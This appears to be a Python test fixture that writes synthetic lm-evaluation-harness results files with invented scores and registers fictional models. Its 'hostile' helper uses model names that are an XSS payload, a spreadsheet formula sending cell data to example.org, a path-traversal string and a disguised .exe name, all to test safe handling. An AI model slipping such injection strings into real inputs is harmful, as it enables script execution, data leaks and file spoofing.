"""Readers' own models for tests: results files of lm-evaluation-harness, added by the package."""

from __future__ import annotations

import json
import math
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from emergence.own.adding import add
from emergence.tables import read_table

HOSTILE = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
TRAVELLING = "../../etc/passwd"
HIDDEN = "evil\u202egnp.exe\u0007\u200b"
LONG = "a-model-with-a-very-long-name-" * 8

UNSCRAMBLE = "bigbench_word_unscrambling_generate_until"
IPA = "bigbench_international_phonetic_alphabet_transliterate_generate_until"
PERSIAN = "bigbench_parsinlu_qa_multiple_choice"
# Task: metric, filter, items of the public test.
KNOWN = {
    "arithmetic_2da": ("acc", "none", 2000),
    "arithmetic_2dm": ("acc", "none", 2000),
    "arithmetic_3da": ("acc", "none", 2000),
    "arithmetic_3ds": ("acc", "none", 2000),
    UNSCRAMBLE: ("exact_match", "none", 2000),
    IPA: ("exact_match", "none", 1003),
    PERSIAN: ("acc", "none", 1050),
    "gsm8k": ("exact_match", "flexible-extract", 1319),
    "gsm8k_cot": ("exact_match", "flexible-extract", 1319),
    "wic": ("acc", "none", 638),
    "truthfulqa_mc2": ("acc", "none", 817),
}
SHOTS = {"gsm8k": 5, "gsm8k_cot": 8, "wic": 0, "truthfulqa_mc2": 0}
MMLU_ITEMS = 100

# Shares of right answers by task.
STRONG = {
    **{"arithmetic_2da": 0.97, "arithmetic_2dm": 0.41, "arithmetic_3da": 0.82},
    **{"arithmetic_3ds": 0.75, UNSCRAMBLE: 0.21, IPA: 0.11, PERSIAN: 0.42},
    **{"gsm8k": 0.32, "gsm8k_cot": 0.45, "wic": 0.5, "truthfulqa_mc2": 0.44, "mmlu": 0.61},
}
WEAK = {"arithmetic_2da": 0.3, "arithmetic_2dm": 0.06, UNSCRAMBLE: 0.01, "truthfulqa_mc2": 0.4}


def results(name: str, shares: Mapping[str, float], **more: Any) -> dict[str, Any]:
    """A results file of 0.4.13 with these shares of right answers; `mmlu` stands for its parts."""
    told: dict[str, dict[str, float]] = {}
    items, shots = {}, {}
    for task, share in shares.items():
        parts = [task] if task in KNOWN else mmlu()
        for part in parts:
            metric, chosen, n = KNOWN.get(part, ("acc", "none", MMLU_ITEMS))
            n = more.get("items", {}).get(task, n)
            value = round(share * n) / n
            error = math.sqrt(value * (1 - value) / (n - 1))
            told[part] = {f"{metric},{chosen}": value, f"{metric}_stderr,{chosen}": error}
            items[part] = {"original": n, "effective": n}
            shots[part] = SHOTS.get(part, 2 if part in KNOWN else 5)
    config = {"model": "hf", "model_args": {"pretrained": name}, "limit": None}
    if more.get("params"):
        config["model_num_parameters"] = more["params"]
    return {
        "results": told,
        "configs": {task: {"task": task, "num_fewshot": n} for task, n in shots.items()},
        "n-shot": shots,
        "n-samples": items,
        "config": config | {"model_revision": "main"},
        "date": 1772360430.5,
        "pretty_env_info": "Host: someones-machine\nPython: /srv/someone/venv/bin/python",
        "lm_eval_version": "0.4.13",
        "model_name": name,
        "chat_template": more.get("chat_template"),
        "system_instruction": more.get("system_instruction"),
    }


def mmlu() -> list[str]:
    parts = read_table("lm_eval_tasks").query("average == 'mmlu' and shots == 5")
    return parts["lm_eval_task"].tolist()


def put(
    root: Path,
    folder: Path,
    name: str,
    shares: Mapping[str, float],
    card: Mapping[str, Any] | None = None,
    **more: Any,
) -> None:
    """Add a model to those at `root`, its results written to `folder` first."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "results_2026-03-01T10-20-30.json"
    path.write_text(json.dumps(results(name, shares, **more)), encoding="utf-8")
    if card:
        (folder / "card.yml").write_text(json.dumps(dict(card)), encoding="utf-8")
    report = add(folder, root=root)
    assert report.added and not report.refused, report


def three(root: Path, folder: Path) -> None:
    """A model with a card, one without training tokens, and one asked as a chat."""
    card = {"name": "our-7b", "parameters": 7e9, "training_tokens": 1.4e12}
    put(root, folder / "a", "lab/our-7b", STRONG, card)
    put(root, folder / "b", "lab/classroom-125m", WEAK, params=125_000_000)
    chat = {"chat_template": "{% for m in messages %}"}
    tuned = {task: min(0.99, share * 1.2) for task, share in STRONG.items()}
    card = {"name": "our-7b-chat", "parameters": 7e9, "training_tokens": 1.4e12}
    put(root, folder / "c", "lab/our-7b-chat", tuned, card, **chat)


def hostile(root: Path, folder: Path) -> None:
    """Models whose names are markup, a formula, a path, or not what they look like."""
    names = (HOSTILE, FORMULA, TRAVELLING, HIDDEN, LONG)
    for at, name in enumerate(names):
        card = {"name": name, "parameters": 1e9 * (at + 1), "training_tokens": 1e12}
        shares = {task: share * (1 - at / 10) for task, share in STRONG.items()}
        put(root, folder / str(at), name, shares, card)
